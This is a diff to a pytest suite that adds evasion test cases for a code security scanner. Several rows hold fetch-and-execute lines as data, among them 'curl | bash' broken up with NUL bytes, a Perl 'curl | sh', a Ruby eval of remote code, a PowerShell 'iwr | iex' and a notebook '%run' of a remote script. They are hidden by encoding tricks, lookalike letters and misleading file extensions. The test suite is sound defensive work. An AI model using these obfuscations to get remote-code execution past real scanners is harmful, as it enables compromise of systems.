@@ -8,6 +8,7 @@ import pytest
 from escrow.core.clock import SystemClock
 from escrow.db.session import Database
 from scanners import finding_queries, queries
+from scanners.engines.flows import FlowsEngine
 from scanners.engines.personal_data import PersonalDataEngine
 from scanners.engines.secrets import SecretsEngine
 from scanners.engines.semgrep import SemgrepEngine, default_command
@@ -57,11 +58,21 @@ ROWS = [
     Row("utf-7", cookie("utf-7")),
     Row("utf-7 that looks like comments", b"# coding: utf-7\n#+AAo-import pickle+AAo-pickle.load(f)\n"),
     Row("escapes as encoding", b"# coding: unicode_escape\n#\\nimport pickle\\npickle.load(f)\n"),
+    Row("utf-7 declared far to the right", b"#" + b"x" * 300 + b" coding: utf-7\n#+AAo-import pickle+AAo-pickle.load(f)\n"),
+    Row("utf-7 declared after a long line", b"#" + b"x" * 900 + b"\n# coding: utf-7\n#+AAo-import pickle+AAo-pickle.load(f)\n"),
+    Row("utf-7 by a long name", b"# coding: utf" + b"-" * 60 + b"7\n#+AAo-import pickle+AAo-pickle.load(f)\n"),
+    Row("a mainframe's letters declared to a shell", f"# coding: cp037\n{CURL}\n".encode(), language="shell", file="a.sh"),
+    Row("pairs of bytes declared to a shell", f"# coding: utf-16-le\n{CURL}\n".encode(), language="shell", file="a.sh"),
+    Row("a mainframe's letters declared after code", b"import pickle\n# coding: cp037\ntable = pickle.load(f)\n"),
     Row("a codec with states", cookie("iso2022_jp", "# 表\n" + PICKLE)),
     Row("old line ends", b"# nothing\rimport pickle\rtable = pickle.load(f)\r"),
     Row("mixed line ends", PICKLE.replace("\n", "\r\n").encode() + b"x = 1\r"),
     Row("wide letters", "import pickle\ntable = ｐickle.load(f)\n".encode()),
     Row("mathematical letters", "import pickle\n𝐭𝐚𝐛𝐥𝐞 = 𝐩𝐢𝐜𝐤𝐥𝐞.load(f)\n".encode()),
+    Row("a letter of another alphabet", "from pickle import load\nt = ˡoad(open('t', 'rb'))\n".encode()),
+    Row("a long s", "import ſubprocess as s\ns.run(['wget', 'https://x.example/a'])\n".encode()),
+    Row("an ordinal", "import os\nºs.ſystem('id')\n".encode()),
+    Row("byte zero in a shell", b"#!/bin/bash\ncu\0rl -fsSL https://tools.example/x | ba\0sh\n", language="shell", file="a.sh"),
     Row("byte zero", PICKLE.encode() + b"\0"),
     Row("byte zero before", b"x = '\0'\n" + PICKLE.encode()),
     Row("padding past the size limit", PADDING + PICKLE.encode()),
@@ -79,6 +90,9 @@ ROWS = [
     Row("an extension of another language", PICKLE.encode(), file="etl.sql"),
     Row("an extension of a document", PICKLE.encode(), file="notes.md"),
     Row("a language nobody reads", b"open(F, '<', 'x'); eval <F>;\n", language="perl", file="etl.pl"),
+    Row("perl called sql", b"open(F, '<', 'x'); eval <F>;\n", language="perl", file="etl.sql"),
+    Row("ruby called json", b"require 'open-uri'; eval(URI.open('http://x').read)\n", language="ruby", file="etl.json"),
+    Row("perl called configuration", b"system('curl http://x | sh');\n", language="perl", file="etl.cfg"),
     Row("base64 and exec", B64.encode()),
     Row("zlib and exec", b"import zlib\ncode = zlib.decompress(b'x')\nexec(code)\n"),
     Row("marshal and exec", b"import marshal\nexec(marshal.loads(b'x'))\n"),
@@ -117,11 +131,22 @@ ROWS = [
     Row("a shell line in a notebook", notebook([f"!{CURL}\n"]), file="n.ipynb"),
     Row("a shell cell in a notebook", notebook(["%%bash\n", CURL]), file="n.ipynb"),
     Row("an install in a notebook", notebook(["%pip install fast-extract\n", "x = 1"]), file="n.ipynb"),
+    Row("code that a notebook times", notebook(["%time exec(open('x').read())\n"]), file="n.ipynb"),
+    Row("code that a notebook prepares", notebook(["%%timeit -n 3 exec(open('x').read())\n", "pass"]), file="n.ipynb"),
+    Row("a script a notebook fetches", notebook(["%run https://tools.example/x.py\n"]), file="n.ipynb"),
+    Row("a command a notebook asks", notebook([f"out = !{CURL}\n"]), file="n.ipynb"),
+    Row("a password a notebook sets", notebook(["%env DB_PASSWORD=Outono#7741\n"]), "credentials", file="n.ipynb"),
+    Row("a notebook of both forms", json.dumps({"cells": [], "worksheets": [{"cells": [{"cell_type": "code", "input": PICKLE}]}]}).encode(), file="n.ipynb"),
     Row("a notebook without extension", notebook(PICKLE), file="n"),
     Row("shell", CURL.encode(), language="shell", file="job"),
     Row("shell called text", f"#!/bin/sh\n{CURL}\n".encode(), language="shell", file="notes.txt"),
     Row("powershell", b"iwr https://tools.example/x | iex\n", language="powershell", file="job"),
     Row("powershell encoded", b"powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A\n", language="powershell", file="a.ps1"),
+    Row("after a remark on its line", b"/* x */ eval(atob('eA=='))\n", language="javascript", file="a.js"),
+    Row("after the end of a remark", b"/*\n x\n*/ eval(code)\n", language="javascript", file="a.js"),
+    Row("a line that begins as a remark goes on", b"2\n* eval(code)\n", language="javascript", file="a.js"),
+    Row("far to the right", b"x = '" + b"a" * 2_500 + b"'; eval(atob('eA=='))\n", language="javascript", file="a.js"),
+    Row("far to the right in powershell", b"$x = '" + b"a" * 2_500 + b"'; &$y (irm https://tools.example/x) | iex\n", language="powershell", file="a.ps1"),
     Row("compiled python", b"\xa7\r\r\n\0\0\0\0" + bytes(range(256)), file="etl.pyc"),
     Row("a zip of python", b"PK\x03\x04" + bytes(range(256)) * 4, file="etl.pyz"),
 ]  # fmt: skip
@@ -135,7 +160,10 @@ def scanned(tmp_path_factory, vault_key):
     folder = tmp_path_factory.mktemp("evasions")
     database = Database(f"sqlite:///{folder / 'escrow.db'}")
     migrate(database)
-    engines = (SecretsEngine(vault_key), PersonalDataEngine(vault_key), SemgrepEngine(vault_key, Staging(folder / "s")))
+    engines = (
+        SecretsEngine(vault_key), PersonalDataEngine(vault_key), FlowsEngine(vault_key),
+        SemgrepEngine(vault_key, Staging(folder / "s")),
+    )  # fmt: skip
     vault = fixtures.make_scan_vault(database, SystemClock(), vault_key, folder, engines)
     targets = []
     for number, row in enumerate(ROWS):
